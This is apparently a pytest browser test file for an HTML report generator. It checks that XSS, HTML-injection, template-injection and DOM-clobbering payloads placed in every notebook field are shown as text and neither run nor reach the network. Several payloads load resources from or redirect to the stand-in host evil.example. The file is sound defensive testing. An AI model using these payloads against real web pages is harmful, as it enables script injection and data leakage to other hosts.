"""What people type, paste or draw: a browser shows it and does nothing else, with the policy and without."""

from __future__ import annotations

import json
import re

import pytest

from poc_eval.i18n import Text
from poc_eval.report.frame import DATA_ID
from poc_eval.report.write import write_report
from poc_eval.workspace.records import Project, ProjectFact

pytestmark = pytest.mark.browser

PAYLOADS = {
    "script": "<script>window.__pwned=1</script>",
    "handler": "<img src=x onerror=window.__pwned=1>",
    "frame": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name=a><button>确认</button></form>',
    "beacon": "![x](https://evil.example/beacon.png?u=zhang)",
    "title": "</title><img src=x onerror=window.__pwned=1>",
    "style": "<style>td{visibility:hidden}.pe-total::after{content:'¥9,999,999'}</style>",
    "ids": '<a id="poc-eval-data"></a><img name="poc-eval-data">',
    "data": '</script><!--SIG:AAAA--><script type="application/json" id="poc-eval-data">{}</script>',
    "comment": "<!--<script>",
    "svg": "<svg onload=window.__pwned=1><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>",
    "attribute": "\" onmouseover=window.__pwned=1 autofocus onfocus=window.__pwned=1 x='",
    "address": "[打开](javascript:window.__pwned=1) [x](data:text/html,<script>window.__pwned=1</script>)",
    "template": "{{7*7}}${7*7}<%= 7*7 %>{% raw %}{constructor.constructor('window.__pwned=1')()}",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
    "object": '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    "signs": "\x00\x08\x1b\u202e\ufeff<b>]]>&lt;b&gt;\u2028",
}
DRAWING = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='window.__pwned=1'>"
    "<script>window.__pwned=1</script><image href='https://evil.example/x.png'/></svg>"
)
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
RUBRIC = """\
id: hostile-sheet
version: "1.0"
stage: selection
title: {zh: WORDS, en: WORDS}
source: {document: WORDS, clause: WORDS, quote: WORDS}
note: {zh: WORDS, en: WORDS}
screening:
  - {id: untrue, ask: {zh: WORDS, en: WORDS}, fails_on: yes}
criteria:
  - id: need
    title: {zh: WORDS, en: WORDS}
    definition: {zh: WORDS, en: WORDS}
    bands: [{from: 50, to: 97, text: {zh: WORDS, en: WORDS}}, {from: 0, to: 49, text: {zh: WORDS, en: WORDS}}]
gates: [{criterion: need, at_least: 60}]
recommendation: [{id: approve, title: {zh: WORDS, en: WORDS}}, {id: reject, title: {zh: 否, en: No}}]
"""


def hostile_notebook(case, payload, code_cell):
    """Return a notebook in which everything that a person can fill holds ``payload``."""
    words = Text(payload, payload)
    fact = ProjectFact(words, words, payload)
    project = Project("hostile", words, words, words, "project", words, words, (fact,), payload)
    case.workspace.store.add_project(project)
    file = case.folder / "hostile.yaml"
    # What YAML itself cannot hold never gets as far as a page.
    readable = re.sub("[\x00-\x1f\u2028\u202e\ufeff]", "", payload)
    file.write_text(RUBRIC.replace("WORDS", json.dumps(readable, ensure_ascii=False)), encoding="utf-8")
    case.project = project
    case.notebook = case.new(rubric=str(file))
    case.review = next(one for one in case.workspace.reviews() if one.project_id == "hostile")
    long = f"{payload} 这是一条足够长的理由，说明评分的依据和考虑。"
    case.submit(
        {
            "undertaking.conflict": "none",
            "undertaking.confidentiality": "yes",
            "undertaking.integrity": "yes",
            "screening.untrue": "no",
            "screening.untrue.reason": payload,
            "criteria.need.band": "50-97",
            "criteria.need.score": "77",
            "criteria.need.reason": long,
            "criteria.need.evidence": payload,
            "recommendation": "approve",
            "opinion": long,
        }
    )
    sized = {"image/png": {"width": "1 onerror=window.__pwned=1", "alt": payload}}
    case.write(
        payload + "\ud800",
        f"# {payload}\n\n- {payload}\n\n`{payload}`\n\n    {payload}",
        f"| {payload} | b |\n|--|--|\n| c | d |",
        f"![{payload}](attachment:a.png)",
        code_cell({"image/png": PIXEL}, metadata=sized),
        code_cell({"image/svg+xml": DRAWING}),
        code_cell({"text/html": payload, "application/javascript": "window.__pwned=1"}),
    )

    def more(document):
        document["metadata"]["title"] = payload
        document["metadata"]["authors"] = [{"name": payload}]
        document["metadata"]["widgets"] = {"state": {"description": payload}}
        document["cells"][-4]["attachments"] = {"a.png": {"image/png": PIXEL}}

    case.edit(more)
    return case.notebook


@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_words_are_shown_and_nothing_runs(case, page, code_cell, tmp_path, name):
    payload = PAYLOADS[name]
    written = write_report(hostile_notebook(case, payload, code_cell), lang="both", output_dir=tmp_path)
    html = written.path.read_text(encoding="utf-8")
    bare, removed = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    assert removed == 1
    for number, opened in enumerate((html, bare)):
        file = tmp_path / f"opened-{number}.html"
        file.write_text(opened, encoding="utf-8")
        assert nothing_ran(page, file) == []
        assert what_is_there(page) == {"data": 1, "acting": 0, "style": 1, "meta": 4 - number, "handlers": 0}
        data = json.loads(page.evaluate(f"document.getElementById('{DATA_ID}').textContent"))
        assert data["project"]["title"]["zh"] == payload
        total = page.locator(".pe-total .pe-score").first
        assert total.inner_text() == "77"
        assert total.is_visible()
        if name != "signs":
            assert page.evaluate("document.body.innerText").count(payload) >= 20


def nothing_ran(page, file):
    """Open ``file``, touch everything in it, and return what it did that a page of text does not do."""
    done = []
    page.on("request", lambda request: done.append(request.url))
    page.on("dialog", lambda dialog: (done.append(dialog.message), dialog.dismiss()))
    page.goto(file.as_uri())
    page.evaluate(
        "document.querySelectorAll('body *').forEach(e =>"
        " ['mouseover', 'focus', 'click'].forEach(name => e.dispatchEvent(new Event(name, {bubbles: true}))))"
    )
    if page.evaluate("window.__pwned") is not None:
        done.append("a script ran")
    return [one for one in done if one != file.as_uri() and not one.startswith("data:image/")]


def what_is_there(page):
    acting = "script:not([type='application/json']), iframe, form, input, button, object, embed, base, link"
    handlers = (
        "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
        ".filter(a => /^on|^style$/.test(a.name)).length"
    )
    return {
        "data": len(page.query_selector_all(f"#{DATA_ID}, [name={DATA_ID}]")),
        "acting": len(page.query_selector_all(acting)),
        "style": len(page.query_selector_all("style")),
        "meta": len(page.query_selector_all("meta")),
        "handlers": page.evaluate(handlers),
    }


def test_the_policy_alone_would_stop_what_got_through(submitted, page, tmp_path):
    """With every escape taken away by hand the header still lets nothing run and nothing out."""
    html = write_report(submitted.notebook, output_dir=tmp_path).path.read_text(encoding="utf-8")
    broken = html.replace(
        "</main>",
        "<script>window.__pwned=1</script><img src=x onerror=window.__pwned=1>"
        "<img src='https://evil.example/x.png'><p style='position:absolute' id=put>9</p></main>",
    )
    file = tmp_path / "broken.html"
    file.write_text(broken, encoding="utf-8")
    page.goto(file.as_uri())
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate("getComputedStyle(document.getElementById('put')).position") == "static"
